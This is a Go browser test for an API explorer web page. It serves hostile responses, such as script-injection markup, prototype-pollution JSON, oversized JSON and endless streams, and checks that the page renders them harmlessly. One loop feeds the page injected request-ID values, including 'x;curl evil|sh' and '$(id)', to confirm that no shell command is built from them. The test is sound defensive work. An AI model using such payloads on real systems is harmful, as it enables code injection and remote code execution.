package browser

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/acebridge/ace/bridge/sqldb/sqldbtest"
	"github.com/acebridge/ace/e2e/world"
	"github.com/acebridge/ace/server"
)

// explored is an app whose answers a page had better not trust, and which counts what comes.
type explored struct {
	posts atomic.Int64
	gone  atomic.Int64 // streams whose reader has left
}

func (e *explored) handler() http.Handler {
	mux := http.NewServeMux()
	answer := func(pattern, contentType, body string) {
		mux.HandleFunc(pattern, func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", contentType)
			_, _ = io.WriteString(w, body)
		})
	}
	answer("GET /html", "text/html", `<script>window.harmed = 1</script><img src="/x" onerror="window.harmed = 1">`)
	answer("GET /proto", "application/json", `{"__proto__":{"harmed":true},"big":12345678901234567890,"twice":1,"twice":[],"text":"<b>\"x\" </b>"}`)
	answer("GET /deep", "application/json", strings.Repeat("[", 200_000))
	answer("GET /giant", "application/json", "["+strings.Repeat(`"0123456789",`, 200_000)+"1]")
	answer("GET /broken", "application/json", `]]]}}}{"a":tru`)
	answer("GET /binary", "application/x-thing", "\x00<script>window.harmed = 1</script>")
	answer("GET /none", "", "")
	mux.HandleFunc("GET /refused", func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusForbidden) })
	mux.HandleFunc("POST /count", func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(map[string]any{"n": e.posts.Add(1), "body": string(body), "type": r.Header.Get("Content-Type"), "x": r.Header.Get("X-Mine")})
	})
	mux.HandleFunc("GET /flood", e.stream("text/plain", func(int) string { return strings.Repeat("on and on ", 10_000) }))
	mux.HandleFunc("GET /waiting", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain")
		_, _ = io.WriteString(w, "and then")
		_ = http.NewResponseController(w).Flush()
		<-r.Context().Done()
		e.gone.Add(1)
	})
	mux.HandleFunc("GET /events", e.stream("text/event-stream", func(n int) string { return fmt.Sprintf("id: %d\ndata: {\"n\":%d}\n\n", n, n) }))
	mux.HandleFunc("GET /large-event", e.stream("text/event-stream", func(int) string { return "data: " + strings.Repeat("x", 64<<10) + "\n" }))
	return mux
}

// stream sends what next gives until its reader leaves.
func (e *explored) stream(contentType string, next func(int) string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", contentType)
		for n := 1; r.Context().Err() == nil; n++ {
			if _, err := io.WriteString(w, next(n)); err != nil || http.NewResponseController(w).Flush() != nil {
				break
			}
		}
		e.gone.Add(1)
	}
}

// behindIt puts an app behind a server's gateway.
func behindIt(t *testing.T, app http.Handler) func(*server.Config) {
	t.Helper()
	srv := httptest.NewServer(app)
	t.Cleanup(srv.Close)
	upstream, err := url.Parse(srv.URL)
	if err != nil {
		t.Fatal(err)
	}
	return func(cfg *server.Config) { cfg.Upstream = upstream }
}

// explorer is the explorer of a connection, in a browser.
type explorer struct {
	run func(string, ...step)
}

// call sends a request with the form.
func (e explorer) call(method, path, wantLine string) {
	e.run(method+" "+path, chromedp.SetValue(`[name=method]`, method), chromedp.SetValue(`[name=path]`, path), chromedp.Click(`[data-call] .primary`),
		eventually(fmt.Sprintf(`document.querySelector("[data-explain]").textContent.includes(%q)`, wantLine)))
}

// holds waits until an expression about the page holds.
func (e explorer) holds(what, expression string) { e.run(what, eventually(expression)) }

const answerText = `document.querySelector("[data-answer]").textContent`

func TestExplorerInABrowser(t *testing.T) {
	t.Parallel()
	ctx := browser(t)
	app := &explored{}
	w := world.New(t, sqldbtest.SQLite(t), sqldbtest.SQLite(t), behindIt(t, app.handler()))
	connection := w.Connect(w.Admin)
	e := explorer{run: steps(t, ctx)}
	e.run("sign in", signIn(string(w.CloudURL), "admin@acme.test"))
	e.run("the explorer calls by itself", chromedp.Navigate(string(w.CloudURL)+"/connections/"+connection.ID+"/explorer"),
		eventually(answerText+`.includes('"subject": "admin@acme.test"')`))
	e.holds("directly", `document.querySelector("[data-explain]").textContent.includes("directly")`)
	shoot(t, ctx, "explorer")

	exploresHarmless(t, e)
	exploresBodies(t, ctx, e, app)
	exploresStreams(t, ctx, e, app)
	exploresIDs(t, ctx, w, e)
}

// exploresIDs reads request IDs of a server that is called directly: they are whatever it likes.
func exploresIDs(t *testing.T, ctx context.Context, w *world.World, e explorer) {
	t.Helper()
	app := &world.PlainApp{Cors: true}
	connection, _ := w.ByHand(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		id, names := r.URL.Query().Get("id"), rw.Header()
		names.Set("Access-Control-Expose-Headers", "X-Request-Id, X-Ace-Relay-Request-Id")
		if id == "" || r.Method == http.MethodOptions {
			app.ServeHTTP(rw, r)
			return
		}
		names.Set("Access-Control-Allow-Origin", "*")
		names.Set(r.URL.Query().Get("as"), id)
		rw.WriteHeader(http.StatusForbidden)
	}), "hostile IDs")
	e.run("its explorer", chromedp.Navigate(string(w.CloudURL)+"/connections/"+connection.ID+"/explorer"), chromedp.WaitReady(`[data-call][data-ready]`))
	for _, as := range []string{"X-Request-Id", "X-Ace-Relay-Request-Id"} {
		for _, id := range []string{"x;curl evil|sh", "--insecure", "$(id)", strings.Repeat("x", 101)} {
			e.call("GET", "/?as="+as+"&id=plain-1.a", "403 Forbidden")
			e.holds("an ID", `document.querySelector("[data-note]").textContent.includes("ace why plain-1.a --server")`)
			e.call("GET", "/?as="+as+"&id="+url.QueryEscape(id), "directly")
			e.holds("no command of "+id, `document.querySelector("[data-explain]").textContent.includes("403") && document.querySelector("[data-note]").textContent === ""`)
		}
	}
	shoot(t, ctx, "explorer-plain")
}

// exploresHarmless calls for answers that are out to harm the page.
func exploresHarmless(t *testing.T, e explorer) {
	t.Helper()
	e.call("GET", "/html", "text/html")
	e.holds("markup is text", `document.querySelector("[data-answer]").textContent.includes("<script>") && document.querySelectorAll("[data-answer] img, [data-answer] script").length === 0`)
	e.call("GET", "/proto", "200")
	e.holds("nothing is lost or run", answerText+`.includes('"__proto__": {') && `+answerText+`.includes("12345678901234567890") &&
		`+answerText+`.split('"twice"').length === 3 && `+answerText+`.includes('"<b>\\\"x\\\" </b>"') && ({}).harmed === undefined`)
	e.call("GET", "/broken", "200")
	e.holds("broken JSON", answerText+`.includes('"a": tru')`)
	e.call("GET", "/deep", "195.3 KB")
	e.call("GET", "/giant", "2.5 MB")
	e.holds("bounds", answerText+`.length < 2_000_000 && `+answerText+`.includes("(cut here)") && document.querySelectorAll("[data-answer] span").length <= 4000`)
	e.call("GET", "/binary", "application/x-thing")
	e.holds("a file to save", `document.querySelector("[data-answer] a[download=binary]").href.startsWith("blob:")`)
	e.call("GET", "/none", "0 bytes")
	e.holds("nothing has run", `window.harmed === undefined`)
}

// exploresBodies sends bodies and headers, and looks at what the form refuses.
func exploresBodies(t *testing.T, ctx context.Context, e explorer, app *explored) {
	t.Helper()
	e.run("a body, sent by Ctrl+Enter", chromedp.Click(`.explorer details summary`), chromedp.SetValue(`[name=method]`, "POST"), chromedp.SetValue(`[name=path]`, "count"),
		chromedp.SetValue(`[name=headers]`, "X-Mine: one\nAuthorization: Bearer mine"), chromedp.SetValue(`[name=body]`, `{"a":'1'}`),
		chromedp.Evaluate[chromedp.Void](`document.querySelector("[name=body]").dispatchEvent(new KeyboardEvent("keydown", {key: "Enter", ctrlKey: true, bubbles: true}))`),
		eventually(answerText+`.includes('"x": "one"') && `+answerText+`.includes('"type": "application/json"')`),
		eventually(`document.querySelector("[data-note]").textContent.includes("Authorization: set by ace")`))
	if n := app.posts.Load(); n != 1 {
		t.Errorf("the call has arrived %d times", n)
	}
	shoot(t, ctx, "explorer-body")
	e.run("the command", chromedp.Click(`.explorer details:has([data-command]) summary`),
		eventually(`document.querySelector("[data-command]").textContent.includes("--data-raw '{\"a\":'\\''1'\\''}'")`),
		eventually(`document.querySelector("[data-command]").textContent.includes("$ACE_KEY") && !document.documentElement.outerHTML.includes("eyJ")`))
	e.call("GET", "/count", "GET takes no body")
	empty := chromedp.Evaluate[chromedp.Void](`for (const field of document.querySelectorAll("textarea")) field.value = ""`)
	e.run("a line that is no header", empty, chromedp.SetValue(`[name=headers]`, "X-Mine: one\nno header"))
	e.call("GET", "/proto", "Line 2 of the headers")
	e.run("no headers", empty)
	e.call("GET", "/refused", "403 Forbidden")
	e.holds("how to find out why", `/Request ID \w+: to see why .*ace why \w+ --server/.test(document.querySelector("[data-note]").textContent)`)
	e.holds("paths of late are suggested", `[...document.querySelectorAll("#paths option")].some((o) => o.value === "/count")`)
}

// exploresStreams reads streams that never end, and stops them.
func exploresStreams(t *testing.T, ctx context.Context, e explorer, app *explored) {
	t.Helper()
	for i, path := range []string{"/waiting", "/events"} {
		e.call("GET", path, "200")
		e.run("stop "+path, eventually(`document.querySelectorAll("[data-answer] li, [data-answer] pre").length > 0`), chromedp.WaitVisible(`[data-stop]`))
		shoot(t, ctx, "explorer"+strings.ReplaceAll(path, "/", "-"))
		e.run("stop "+path, chromedp.Click(`[data-stop]`), eventually(answerText+`.includes("You stopped it.") && document.querySelector("[data-stop]").hidden`),
			eventually(`document.querySelectorAll("[data-answer] li").length <= 200`))
		for app.gone.Load() <= int64(i) { // until the server has noticed; the test's time bounds it
			if err := ctx.Err(); err != nil {
				t.Fatal("the server goes on sending: ", err)
			}
		}
	}
	e.call("GET", "/flood", "32.")
	e.holds("a flood", answerText+`.includes("It is longer than 32.0 MB")`)
	e.call("GET", "/large-event", "0 events")
	e.holds("an event without an end", answerText+`.includes("more than a million characters")`)
}
